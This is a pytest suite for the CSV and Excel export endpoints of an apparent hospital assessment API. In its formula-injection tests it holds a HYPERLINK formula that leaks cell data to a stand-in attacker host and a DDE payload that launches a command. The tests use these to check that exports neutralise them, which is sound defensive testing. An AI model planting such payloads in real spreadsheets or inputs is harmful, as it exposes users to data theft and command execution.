"""The CSV and Excel exports, read back as a spreadsheet user would read them."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.conftest import bearer, example
from tests.support.questionnaires import definition_of

DEFINITION = definition_of(1)
QUESTION_IDS = [q.id for q in DEFINITION.questions]
CHOICE_IDS = [q.id for q in DEFINITION.questions if q.type in ("single_choice", "multiple_choice")]
# Each choice question's column is followed by its answer in words.
QUESTION_COLUMNS = [
    column for q in QUESTION_IDS for column in ([q, f"{q}_label"] if q in CHOICE_IDS else [q])
]
LABELS = {
    q.id: {o.value: o.label for o in q.options} for q in DEFINITION.questions if q.id in CHOICE_IDS
}
DIMENSION_IDS = [d.id for d in DEFINITION.dimensions]


def _submit(client, headers, organization_id, name="community-hospital", status="submitted"):
    body = {**example(name), "status": status, "organization_id": str(organization_id)}
    response = client.post("/v1/assessments", json=body, headers=headers)
    assert response.status_code == 201, response.text
    return response.json()


def _csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM by which Excel knows it is UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _xlsx_rows(response) -> tuple[list[str], list[list[Any]], Any]:
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content))["Assessments"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return rows[0], rows[1:], sheet


def _csv_answer(answer: dict[str, Any]) -> str:
    if answer["na"]:
        return "not applicable"
    value = answer["value"]
    if isinstance(value, list):
        return ";".join(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


@pytest.fixture
def two_assessed(client, admin_headers, make_organization):
    """Two organizations, each with one submitted assessment (and one with a draft too)."""
    lakeside = make_organization("Lakeside Community Hospital", beds=60)
    university = make_organization("University Medical Center", beds=900)
    assessments = [
        _submit(client, admin_headers, lakeside.id, "community-hospital"),
        _submit(client, admin_headers, university.id, "academic-medical-center"),
    ]
    _submit(client, admin_headers, lakeside.id, "community-hospital", status="draft")
    return lakeside, university, assessments


def test_csv_rows_carry_the_scores_and_answers_the_api_gives(client, admin_headers, two_assessed):
    lakeside, _, assessments = two_assessed

    response = client.get(
        "/v1/exports/assessments.csv",
        params={"organization_id": str(lakeside.id)},
        headers=admin_headers,
    )

    rows = _csv_rows(response)
    assert [row["assessment_id"] for row in rows] == [assessments[0]["id"]]  # no draft
    row = rows[0]
    stored = client.get(f"/v1/assessments/{row['assessment_id']}", headers=admin_headers).json()
    assert row["organization_name"] == "Lakeside Community Hospital"
    assert row["organization_id"] == str(lakeside.id)
    assert (row["questionnaire_id"], row["questionnaire_version"]) == ("hospital-social-media", "1")
    assert row["status"] == "submitted"
    assert row["submitted_at"].startswith(stored["submitted_at"][:19])
    assert int(row["overall_level"]) == stored["scores"]["overall_level"]
    assert float(row["overall_score"]) == stored["scores"]["overall_score"]
    for dimension in stored["scores"]["dimensions"]:
        assert float(row[f"{dimension['dimension_id']}_score"]) == dimension["score"]
        assert int(row[f"{dimension['dimension_id']}_level"]) == dimension["level"]
    levels = {d: int(row[f"{d}_level"]) for d in DIMENSION_IDS}
    assert levels == {"presence": 2, "consistency": 1, "security": 2}
    answered = {a["question_id"]: a for a in stored["answers"]}
    for question_id in QUESTION_IDS:
        expected = _csv_answer(answered[question_id]) if question_id in answered else ""
        assert row[question_id] == expected, question_id
        if question_id in CHOICE_IDS and question_id in answered:
            answer = answered[question_id]
            chosen = answer["value"] if isinstance(answer["value"], list) else [answer["value"]]
            expected_label = (
                "not applicable"
                if answer["na"]
                else "; ".join(LABELS[question_id][v] for v in chosen)
            )
            assert row[f"{question_id}_label"] == expected_label, question_id
    assert row["pr_podcast"] == "not applicable"
    assert row["pr_content_mix"] == "access_info;community;careers"
    assert row["pr_content_mix_label"] == "; ".join(
        LABELS["pr_content_mix"][v] for v in ("access_info", "community", "careers")
    )


def test_columns_are_fixed_then_dimensions_then_questions_in_questionnaire_order(
    client, admin_headers, two_assessed
):
    response = client.get("/v1/exports/assessments.csv", headers=admin_headers)

    header = next(csv.reader(io.StringIO(response.text.removeprefix("\ufeff"))))
    dimension_columns = [f"{d}_{part}" for d in DIMENSION_IDS for part in ("score", "level")]
    assert header[:9] == [
        "assessment_id",
        "organization_id",
        "organization_name",
        "questionnaire_id",
        "questionnaire_version",
        "status",
        "submitted_at",
        "overall_level",
        "overall_score",
    ]
    assert header[9:] == dimension_columns + QUESTION_COLUMNS


def test_xlsx_holds_the_same_rows_with_numbers_as_numbers(client, admin_headers, two_assessed):
    _, _, assessments = two_assessed
    csv_rows = _csv_rows(client.get("/v1/exports/assessments.csv", headers=admin_headers))

    response = client.get("/v1/exports/assessments.xlsx", headers=admin_headers)

    header, rows, _ = _xlsx_rows(response)
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert header == list(csv_rows[0])
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    mine = {a["id"] for a in assessments}
    assert mine <= set(by_id)
    university_row = by_id[assessments[1]["id"]]
    scores = assessments[1]["scores"]
    assert university_row["organization_name"] == "University Medical Center"
    assert university_row["overall_level"] == scores["overall_level"]
    for dimension in scores["dimensions"]:
        assert university_row[f"{dimension['dimension_id']}_score"] == dimension["score"]
        assert university_row[f"{dimension['dimension_id']}_level"] == dimension["level"]
    assert university_row["pr_posts_per_week"] == next(
        a["value"] for a in assessments[1]["answers"] if a["question_id"] == "pr_posts_per_week"
    )
    assert isinstance(university_row["presence_score"], float)
    for csv_row in csv_rows:
        assert by_id[csv_row["assessment_id"]]["organization_id"] == csv_row["organization_id"]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_downloads_are_attachments_with_a_file_name(client, admin_headers, extension):
    response = client.get(f"/v1/exports/assessments.{extension}", headers=admin_headers)

    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=")
    assert disposition.endswith(f'.{extension}"')


def test_status_all_and_draft_include_drafts(client, admin_headers, two_assessed):
    lakeside, _, _ = two_assessed
    params = {"organization_id": str(lakeside.id)}

    every = _csv_rows(
        client.get(
            "/v1/exports/assessments.csv", params={**params, "status": "all"}, headers=admin_headers
        )
    )
    drafts = _csv_rows(
        client.get(
            "/v1/exports/assessments.csv",
            params={**params, "status": "draft"},
            headers=admin_headers,
        )
    )

    assert sorted(row["status"] for row in every) == ["draft", "submitted"]
    assert [row["status"] for row in drafts] == ["draft"]
    assert drafts[0]["submitted_at"] == ""


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_a_consultant_exports_only_its_own_organizations(
    client, admin_headers, make_key, two_assessed, extension
):
    lakeside, university, _ = two_assessed
    consultant = bearer(make_key("consultant", [lakeside.id]))

    response = client.get(f"/v1/exports/assessments.{extension}", headers=consultant)

    if extension == "csv":
        ids = {row["organization_id"] for row in _csv_rows(response)}
    else:
        ids = {row[1] for row in _xlsx_rows(response)[1]}
    assert ids == {str(lakeside.id)}
    foreign = client.get(
        f"/v1/exports/assessments.{extension}",
        params={"organization_id": str(university.id)},
        headers=consultant,
    )
    assert foreign.status_code == 404
    assert str(university.id) in foreign.json()["detail"]
    assert "University" not in foreign.text


def test_a_key_without_organizations_gets_the_header_only(client, make_key, two_assessed):
    response = client.get("/v1/exports/assessments.csv", headers=bearer(make_key("partner")))

    lines = response.text.splitlines()
    assert len(lines) == 1
    assert lines[0].split(",")[-1] == QUESTION_IDS[-1]


def test_an_unknown_questionnaire_filter_is_422_naming_it(client, admin_headers):
    response = client.get(
        "/v1/exports/assessments.csv", params={"questionnaire": "nope"}, headers=admin_headers
    )

    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "questionnaire"


def test_the_questionnaire_filter_keeps_its_assessments(client, admin_headers, two_assessed):
    response = client.get(
        "/v1/exports/assessments.csv",
        params={"questionnaire": "hospital-social-media"},
        headers=admin_headers,
    )

    assert {a["id"] for a in two_assessed[2]} <= {r["assessment_id"] for r in _csv_rows(response)}


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_ANSWERS = {
    "se_incidents_description": "+cmd|' /C calc'!A0",
    # Control characters other than tab and line breaks are refused on the way in (app.text).
    "se_anything_else": "@SUM(1+1)\twith a tab",
}


@pytest.fixture
def hostile(client, admin_headers, make_organization):
    organization = make_organization(HOSTILE_NAME)
    document = example("academic-medical-center")
    answers = [a for a in document["answers"] if a["question_id"] not in HOSTILE_ANSWERS]
    answers += [{"question_id": q, "value": v} for q, v in HOSTILE_ANSWERS.items()]
    body = {**document, "answers": answers, "organization_id": str(organization.id)}
    response = client.post("/v1/assessments", json=body, headers=admin_headers)
    assert response.status_code == 201, response.text
    stored = {a["question_id"] for a in response.json()["answers"]}
    assert set(HOSTILE_ANSWERS) <= stored, "the hostile answers must be shown to be exported"
    return organization


def test_csv_cells_that_could_run_as_formulas_start_with_an_apostrophe(
    client, admin_headers, hostile
):
    response = client.get(
        "/v1/exports/assessments.csv",
        params={"organization_id": str(hostile.id)},
        headers=admin_headers,
    )

    (row,) = _csv_rows(response)
    assert row["organization_name"] == "'" + HOSTILE_NAME
    assert row["se_incidents_description"] == "'" + HOSTILE_ANSWERS["se_incidents_description"]
    assert row["se_anything_else"] == "'" + HOSTILE_ANSWERS["se_anything_else"]
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_writes_formula_like_text_as_plain_strings(client, admin_headers, hostile):
    response = client.get(
        "/v1/exports/assessments.xlsx",
        params={"organization_id": str(hostile.id)},
        headers=admin_headers,
    )

    header, rows, sheet = _xlsx_rows(response)
    row = dict(zip(header, rows[0], strict=True))
    assert row["organization_name"] == HOSTILE_NAME
    assert row["se_incidents_description"] == HOSTILE_ANSWERS["se_incidents_description"]
    assert row["se_anything_else"] == HOSTILE_ANSWERS["se_anything_else"]
    for cell in next(sheet.iter_rows(min_row=2, max_row=2)):
        assert cell.data_type != "f", cell.coordinate


def test_unknown_query_parameters_are_refused(client, admin_headers):
    response = client.get(
        "/v1/exports/assessments.csv",
        params={"organisation_id": str(uuid.uuid4())},
        headers=admin_headers,
    )

    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "organisation_id"
